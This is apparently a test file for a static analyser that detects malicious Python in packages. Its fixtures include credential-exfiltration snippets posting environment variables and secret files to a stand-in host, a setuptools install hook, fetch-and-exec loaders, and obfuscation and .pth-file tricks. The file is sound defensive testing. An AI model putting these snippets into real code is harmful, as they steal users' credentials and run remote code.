import t from 'tap'
import { flowsOnLoad, placesOnLoad } from '../../src/analysis/python/runs-on-load.ts'
import { summarisePython } from '../../src/analysis/python/summarise.ts'
import { CAPABILITIES } from '../../src/model/capability.ts'

/** `source kind line -> sink kind line` of what runs on load; deferred flows in brackets. */
function flowsOf(text: string, path = 'x.py'): string[] {
  return summarisePython(path, text).flows.map(({ source, sink }) => {
    const flow = `${source.kind} ${source.line} -> ${sink.kind} ${sink.line}`
    return sink.deferred ? `(${flow})` : flow
  })
}

function capabilitiesOnLoad(text: string, path = 'x.py'): string[] {
  const summary = summarisePython(path, text)
  return CAPABILITIES.filter((capability) => placesOnLoad(summary, capability).length > 0)
}

const base64 = (text: string): string => Buffer.from(text).toString('base64')

const FLOWS: readonly { name: string; code: string; flows: readonly string[] }[] = [
  {
    name: 'the whole environment, filtered in a comprehension, through a function and json, posted by urllib',
    code: `import os, re, json
import urllib.request as u
def collect():
    return {k: v for k, v in os.environ.items() if re.search(r'KEY|TOKEN|SECRET|DATABASE_URL', k)}
def send():
    data = json.dumps(collect()).encode()
    u.urlopen(u.Request('https://c.invalid/x', data=data))
send()`,
    flows: ['env 4 -> network 7'],
  },
  {
    name: 'a secret file read in a with statement, posted by requests through a container',
    code: `import os, requests
found = {}
with open(os.path.join(os.path.expanduser('~'), '.aws', 'credentials')) as f:
    found['aws'] = f.read()
requests.post('https://c.invalid', json=found)`,
    flows: ['secret-file 3 -> network 5'],
  },
  {
    name: 'paths in a loop, through pathlib and an f-string',
    code: `from pathlib import Path
import requests as r
for name in ['.npmrc', '.pypirc']:
    text = (Path.home() / name).read_text()
    r.get(f'https://c.invalid/?q={text}')`,
    flows: ['secret-file 4 -> network 5'],
  },
  {
    name: 'one credential by name, over a raw socket',
    code: `import os, socket
s = socket.socket()
s.connect(('c.invalid', 80))
s.sendall(os.getenv('GITHUB_TOKEN').encode())`,
    flows: ['env 4 -> network 4'],
  },
  {
    name: 'attributes of an instance, and http.client',
    code: `import http.client, os
class Sender:
    def __init__(self, data):
        self.data = data
    def send(self):
        c = http.client.HTTPSConnection('c.invalid')
        c.request('POST', '/', self.data)
Sender(str(dict(os.environ))).send()`,
    flows: ['env 8 -> network 7'],
  },
  {
    name: 'a class that setup() gets as a command',
    code: `from setuptools import setup
from setuptools.command.install import install
import os, requests
class Post(install):
    def run(self):
        requests.post('https://c.invalid', data=os.environ)
setup(name='x', cmdclass={'install': Post})`,
    flows: ['env 6 -> network 6'],
  },
  {
    name: 'a thread, a lambda and starred arguments',
    code: `import os, threading, requests
send = lambda url, *rest: requests.post(url, data=rest)
threading.Thread(target=lambda: send('https://c.invalid', 1, os.environ.copy())).start()`,
    flows: ['env 3 -> network 2'],
  },
  {
    name: 'curl with the environment in its command line',
    code: `import os, subprocess
subprocess.run(['curl', '-d', str(os.environ), 'https://c.invalid'])`,
    flows: ['env 2 -> network 2'],
  },
  {
    name: 'host facts to a webhook',
    code: `import platform, getpass, requests
requests.post('https://c.invalid', json={'h': platform.node(), 'u': getpass.getuser()})`,
    flows: ['host-info 2 -> network 2', 'host-info 2 -> network 2'],
  },
  {
    name: 'decode and execute, behind getattr, __import__ and split names',
    code: `import builtins
payload = __import__('base' + '64').b64decode('cHJpbnQoMSk=')
getattr(builtins, 'ex' + 'ec')(payload)`,
    flows: ['decoded-text 2 -> dynamic-code 3'],
  },
  {
    name: 'character codes executed',
    code: `exec(''.join(map(chr, [112, 114, 105, 110, 116, 40, 49, 41])))`,
    flows: ['decoded-text 1 -> dynamic-code 1'],
  },
  {
    name: 'fetched text executed',
    code: `import urllib.request
exec(urllib.request.urlopen('https://c.invalid/x.py').read().decode())`,
    flows: ['remote-content 2 -> dynamic-code 2'],
  },
  {
    name: 'a fetched file started by the path it was written to',
    code: `import requests, subprocess, os, tempfile
path = os.path.join(tempfile.gettempdir(), 'x')
with open(path, 'wb') as f:
    f.write(requests.get('https://c.invalid/x').content)
os.chmod(path, 0o755)
subprocess.Popen([path])`,
    flows: [
      'remote-content 4 -> filesystem-write 4',
      'remote-content 4 -> filesystem-write 5',
      'remote-content 4 -> process 6',
    ],
  },
  {
    name: 'code inside of code: python -c, base64 twice',
    code: `import subprocess, sys
subprocess.Popen([sys.executable, '-c', "import base64; exec(base64.b64decode('${base64(
      `import base64\nexec(base64.b64decode('${base64("import os,requests\nrequests.post('https://c.invalid',json=dict(os.environ))")}'))`,
    )}'))"])`,
    flows: ['decoded-text 2 -> dynamic-code 2', 'decoded-text 2 -> dynamic-code 2', 'env 2 -> network 2'],
  },
  {
    name: 'a credential used inside of a client that nothing here calls is deferred',
    code: `import os, requests
class Client:
    def call(self):
        return requests.post('https://api.invalid', headers={'a': os.environ['API_KEY']})`,
    flows: ['(env 4 -> network 4)'],
  },
  {
    name: 'settings, proxies, truth values and the child environment are no secrets',
    code: `import os, requests, subprocess
proxy = os.environ.get('HTTP_PROXY')
debug = os.environ['MY_DEBUG'] == '1'
ci = 'GITHUB_TOKEN' in os.environ
requests.get('https://x.invalid', proxies={'http': proxy}, verify=debug, stream=ci)
env = os.environ.copy()
subprocess.run(['make'], env=env)
subprocess.check_output(['git', 'describe'])
from other import wheel_for
requests.post('https://x.invalid', data=wheel_for('x', env=os.environ))`,
    flows: [],
  },
]

t.test('data flow in one file', async (t) => {
  for (const { name, code, flows } of FLOWS) t.same(flowsOf(code).toSorted(), [...flows].toSorted(), name)
})

const CAPABILITY_CASES: readonly { name: string; code: string; path?: string; has: readonly string[] }[] = [
  {
    name: 'imports and definitions do nothing',
    code: 'import os, subprocess, requests\ndef f():\n    subprocess.run(["x"])',
    has: [],
  },
  { name: 'from-import under another name', code: 'from subprocess import Popen as P\nP(["x"])', has: ['process'] },
  { name: 'star import', code: 'from os import *\nsystem("x")', has: ['process'] },
  { name: 'module under another name', code: 'import os as o\no.system("x")', has: ['process'] },
  { name: 'sys.modules', code: 'import sys, os\nsys.modules["os"].system("x")', has: ['process'] },
  { name: 'globals()', code: 'globals()["__builtins__"].exec("1")', has: ['dynamic-code'] },
  { name: '__builtins__ as a dict', code: '__builtins__.__dict__["eval"]("1")', has: ['dynamic-code'] },
  { name: 'a reversed name', code: 'import os\ngetattr(os, "metsys"[::-1])("x")', has: ['process', 'obfuscated'] },
  {
    name: 'a decoded name',
    code: 'import os, base64\ngetattr(os, base64.b64decode("c3lzdGVt").decode())("x")',
    has: ['process', 'obfuscated'],
  },
  {
    name: 'a callback at exit',
    code: 'import atexit, os\n@atexit.register\ndef f():\n    os.system("x")',
    has: ['process'],
  },
  {
    name: 'a callback handed over',
    code: 'import os, signal\ndef f(*a):\n    os.system("x")\nsignal.signal(1, f)',
    has: ['process'],
  },
  {
    name: 'running a file of the package hides nothing',
    code: 'with open("pkg/version.py") as f:\n    exec(f.read())',
    has: [],
  },
  { name: 'running a file with another name', code: 'exec(open("data.bin").read())', has: ['dynamic-code'] },
  { name: 'constant code is read', code: 'exec("import os\\nos.system(\'x\')")', has: ['process', 'dynamic-code'] },
  { name: 'ctypes', code: 'import ctypes\nctypes.windll.kernel32.VirtualAlloc(0)', has: ['native'] },
  { name: 'code behind blanks', code: `x = 1;${' '.repeat(300)}import os`, has: ['obfuscated'] },
  {
    name: 'Python 2',
    code: 'import urllib2\nprint urllib2.urlopen("http://c.invalid").read()\nexec "import os; os.system(1)"',
    has: ['network', 'process', 'dynamic-code'],
  },
  {
    name: 'a path line of a .pth file runs nothing',
    path: 'a.pth',
    code: '../x\n# import os; os.system("x")\n import os; os.system("x")',
    has: [],
  },
  { name: 'an import line of a .pth file', path: 'a.pth', code: 'x\nimport os; os.system("x")', has: ['process'] },
  {
    name: 'a carriage return ends a comment (3.11)',
    path: 'a.pth',
    code: '# c\rimport os; os.system("x")',
    has: ['process'],
  },
  {
    name: 'a form feed ends a comment (3.13)',
    path: 'a.pth',
    code: '# c\fimport os; os.system("x")',
    has: ['process'],
  },
  {
    name: 'a next-line character ends a comment (3.13)',
    path: 'a.pth',
    code: '# c\u0085import os; os.system("x")',
    has: ['process'],
  },
  { name: 'a byte order mark (3.13)', path: 'a.pth', code: '\uFEFFimport os; os.system("x")', has: ['process'] },
  { name: 'a tab after import', path: 'a.pth', code: 'import\tos; os.system("x")', has: ['process'] },
]

t.test('capabilities of code that runs on load', async (t) => {
  for (const { name, code, has, path } of CAPABILITY_CASES) t.same(capabilitiesOnLoad(code, path), has, name)
})

t.test('places are those of the editor', async (t) => {
  const { flows, capabilities } = summarisePython(
    'x.py',
    'import os\r\nimport requests\r\n\r\nrequests.post("u", data=os.environ)\r\n',
  )
  t.match(flows[0], {
    source: { line: 4, column: 25, note: 'reads the whole of os.environ' },
    sink: { line: 4, column: 1, note: 'sends it with requests.post' },
  })
  t.match(capabilities.get('network')?.[0], { line: 4, column: 1, note: 'calls requests.post' })
  t.equal(flowsOnLoad(summarisePython('x.py', 'def f(): pass')).length, 0)
})

t.test('flows tell which variable, which hosts, and whether a file lies between', async (t) => {
  const one = summarisePython(
    'x.py',
    "import os, requests\nrequests.post('https://c.invalid/x', headers={'a': os.environ['NPM_TOKEN']})",
  )
  t.match(one.flows, [{ source: { name: 'NPM_TOKEN' }, hosts: ['https://c.invalid/x'] }])
  const whole = summarisePython(
    'x.py',
    'import os, socket\ns = socket.socket()\ns.connect(("c.invalid", 1))\ns.send(repr(os.environ))',
  )
  t.equal(whole.flows[0]?.source.name, undefined)
  const many = summarisePython(
    'x.py',
    "import os, requests\nfor k in ['NPM_TOKEN', 'AWS_SECRET_ACCESS_KEY', 'GITHUB_TOKEN']:\n    requests.post('u', os.getenv(k))",
  )
  t.equal(many.flows[0]?.source.name, undefined, 'credentials of many services are a collection')
  const each = summarisePython(
    'x.py',
    'import os, requests\nfor k in os.environ:\n    requests.post("u", os.environ[k])',
  )
  t.ok(
    each.flows.some(({ source }) => source.name === undefined),
    'every variable by its name is the whole environment',
  )
  const file = summarisePython(
    'x.py',
    "import os, urllib.request as u\nu.urlretrieve('https://c.invalid/a.sh', '/tmp/a.sh')\nos.system('sh /tmp/a.sh')",
  )
  t.match(
    file.flows.find(({ sink }) => sink.kind === 'process'),
    { viaFile: true, hosts: ['https://c.invalid/a.sh'], sink: { note: 'runs sh /tmp/a.sh' } },
  )
})
